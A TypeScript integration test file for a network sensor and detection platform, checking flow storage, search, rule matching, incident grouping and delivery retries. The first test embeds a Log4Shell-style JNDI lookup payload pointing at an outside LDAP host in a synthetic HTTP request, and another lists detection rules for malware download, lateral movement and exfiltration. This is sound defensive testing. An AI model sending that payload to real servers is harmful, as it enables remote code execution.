import { spawn } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { conversation, frame, pcap } from '../../server/src/traffic/captures-for-tests.ts'
import { intrusion } from '../../tools/captures/intrusion.ts'
import { type Platform, startPlatform, until } from '../harness/platform.ts'

const binary = fileURLToPath(new URL('../../server/bin/watchfire.js', import.meta.url))
const folder = mkdtempSync(join(tmpdir(), 'sensor-'))
let platform: Platform
beforeAll(async () => {
  platform = await startPlatform()
}, 240_000)
afterAll(async () => {
  await platform.stop()
  platform.remove()
  rmSync(folder, { recursive: true })
})

/** Runs the sensor on a capture that comes by standard input. */
function runSensor(url: string, token: string, capture: Uint8Array) {
  const tokenFile = join(folder, 'token')
  writeFileSync(tokenFile, token, { mode: 0o600 })
  const child = spawn(process.execPath, [binary, 'sensor', '--url', url, '--token-file', tokenFile, '--source', 'wire'])
  let told = ''
  child.stderr.setEncoding('utf8').on('data', (text) => {
    told += text
  })
  child.stdin.end(capture)
  const ended = new Promise<{ code: number | null; told: string }>((resolve) =>
    // Not at its exit, when the last it said may still be on the way.
    child.once('close', (code) => resolve({ code, told })),
  )
  return { ended, told: () => told }
}

const search = async (query: string) => {
  const answer = await platform.request<{ items: Record<string, unknown>[]; total: number }>('POST', '/api/v1/search', {
    query,
    from: '2025-12-31T00:00:00Z',
    to: '2026-01-02T00:00:00Z',
    limit: 50,
  })
  return answer.body
}

test('what the conversations of a live capture say is stored, searchable and matched by the rules', async () => {
  const frames = conversation([
    ['>', `GET /?x=${'$'}{jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: portal.example\r\nUser-Agent: probe\r\n\r\n`],
    ['<', 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'],
  ])
  const { code, told } = await runSensor(platform.url, platform.token, pcap(frames)).ended
  expect(told).toContain('8 packets')
  expect(code).toBe(0)
  await until(
    async () => (await search('event.dataset:flow')).total === 1,
    30_000,
    () => 'no flow was stored',
  )
  const [flow] = (await search('event.dataset:flow')).items
  expect(JSON.stringify(flow)).toContain('"zeek.conn_state":"SF"')
  expect((await search('event.dataset:http and url.domain:portal.example')).total).toBe(1)
  await until(
    async () => (await platform.request<{ total: number }>('GET', '/api/v1/detections?limit=10')).body.total > 0,
    30_000,
    () => 'no rule fired on the request',
  )
})

test('the packets of a conversation come from the sensor that keeps them, and from a capture that was imported', async () => {
  const tokenFile = join(folder, 'token')
  writeFileSync(tokenFile, platform.token, { mode: 0o600 })
  const ring = join(folder, 'ring')
  const parameters = ['--url', platform.url, '--token-file', tokenFile, '--source', 'keeper', '--packets-dir', ring]
  const child = spawn(process.execPath, [binary, 'sensor', ...parameters], { stdio: ['pipe', 'ignore', 'pipe'] })
  const ended = new Promise((resolve) => child.once('exit', resolve))
  const wanted = conversation([['>', 'GET /wanted HTTP/1.1\r\nHost: kept.example\r\n\r\n']], { sourcePort: 50_000 })
  const other = conversation([['>', 'GET /other HTTP/1.1\r\nHost: kept.example\r\n\r\n']], { sourcePort: 50_001 })
  const capture = pcap(wanted.flatMap((bytes, index) => [bytes, other[index]!]))
  // Time goes on behind it, so that the flows end while the sensor still runs.
  const later = pcap([frame({ sourcePort: 1 })]).subarray(24)
  later.writeUInt32LE(later.readUInt32LE(0) + 600)
  child.stdin.write(Buffer.concat([capture, later]))
  await until(
    async () => (await search('event.dataset:flow and source.port:50000')).total === 1,
    30_000,
    () => 'no flow of the sensor was stored',
  )
  const flowOf = async (query: string) => (await search(query)).items[0]!['event.id']
  const packetsOf = async (path: string) => {
    const answer = await fetch(`${platform.url}/api/v1/${path}`, {
      headers: { authorization: `Bearer ${platform.token}` },
    })
    return { status: answer.status, bytes: Buffer.from(await answer.arrayBuffer()) }
  }
  const fromSensor = await packetsOf(`events/${await flowOf('event.dataset:flow and source.port:50000')}/packets`)
  expect([fromSensor.status, fromSensor.bytes.length]).toEqual([200, pcap(wanted).length])
  for (const bytes of wanted) expect(fromSensor.bytes.includes(bytes)).toBe(true)
  const { body } = await platform.request<{ items: Record<string, unknown>[] }>('GET', '/api/v1/sensors')
  expect(body.items).toMatchObject([
    { name: 'keeper', lostPackets: 0, isSilent: false, interface: null },
    { name: 'wire' },
  ])
  const query = 'event.dataset:http and url.path:"/wanted"'
  const ofSensor = await flowOf(query)
  child.stdin.end()
  await ended

  const uploaded = await fetch(`${platform.url}/api/v1/import?name=evidence.pcap`, {
    method: 'POST',
    headers: { authorization: `Bearer ${platform.token}`, 'content-type': 'application/octet-stream' },
    body: new Uint8Array(pcap(wanted)),
  })
  expect(uploaded.status).toBe(200)
  await until(
    async () => (await search(query)).total === 2,
    30_000,
    () => 'the imported request was not stored',
  )
  const imported = (await search(query)).items.find(({ 'event.id': id }) => id !== ofSensor)!
  expect((await packetsOf(`events/${imported['event.id']}/packets`)).bytes).toEqual(pcap(wanted))
})

test('an intrusion seen on the wire from its first step to its last becomes one incident', async () => {
  const { code } = await runSensor(platform.url, platform.token, intrusion(Date.now() - 2 * 3_600_000)).ended
  expect(code).toBe(0)
  type Detections = { items: { ruleId: string; ruleTitle: string; incidentId: number | string | null }[] }
  const wanted = [
    'Program fetched from an address without a name',
    'Calls in the rhythm of a program',
    'Program put on a share and started as a service',
    'Document with a mark of secrecy in its name sent outside',
  ]
  const found = async () => {
    const { items } = (await platform.request<Detections>('GET', '/api/v1/detections?limit=200')).body
    return items.filter(({ ruleTitle }) => wanted.includes(ruleTitle))
  }
  await until(
    async () => new Set((await found()).map(({ ruleTitle }) => ruleTitle)).size === wanted.length,
    60_000,
    () => 'not all steps of the intrusion were found',
  )
  await until(
    async () => (await found()).every(({ incidentId }) => incidentId !== null),
    30_000,
    () => 'not all steps stand in an incident',
  )
  const detections = await found()
  expect(new Set(detections.map(({ incidentId }) => incidentId)).size).toBe(1)
  const incident = await platform.request<{ severity: string; tactics: string[] }>(
    'GET',
    `/api/v1/incidents/${detections[0]!.incidentId}`,
  )
  expect(incident.body.severity).toBe('critical')
  expect(incident.body.tactics).toEqual(
    expect.arrayContaining(['execution', 'command-and-control', 'lateral-movement', 'exfiltration']),
  )
})

test('a platform that is away for a while gets every record once; one that refuses is told of', async () => {
  let asked = 0
  const bodies: { key: string; lines: number }[] = []
  const server = createServer((request, response) => {
    if (request.url!.includes('/sensors/')) return response.writeHead(404).end('{}')
    const pieces: Buffer[] = []
    request.on('data', (piece: Buffer) => pieces.push(piece))
    request.on('end', () => {
      bodies.push({
        key: String(request.headers['idempotency-key']),
        lines: Buffer.concat(pieces).toString().trim().split('\n').length,
      })
      // The first answer is lost on the way, the second says to come again.
      if (++asked === 1) return request.socket.destroy()
      response.writeHead(asked === 2 ? 503 : 200, { 'retry-after': '1' }).end('{}')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  const frames = Array.from({ length: 20 }, (_, index) => frame({ sourcePort: 2_000 + index, flags: 'S' }))
  const { code, told } = await runSensor(`http://127.0.0.1:${port}`, 'wf_x', pcap(frames)).ended
  server.close()
  expect(code).toBe(0)
  expect(told).toContain('does not answer')
  expect(told).toContain('answered 503')
  expect(told).toContain('21 records sent, 0 given up')
  expect(new Set(bodies.map(({ key }) => key)).size).toBe(1)
  expect(bodies.map(({ lines }) => lines)).toEqual([21, 21, 21])
})

test('what is no capture, and a token that is not there, end with a code', async () => {
  const none = await runSensor(platform.url, platform.token, Buffer.from('no capture at all')).ended
  expect(none.code).toBe(1)
  expect(none.told).toContain('IMPORT_DAMAGED')
  const empty = await runSensor(platform.url, ' ', pcap([])).ended
  expect(empty.told).toContain('CONFIG_INVALID')
})
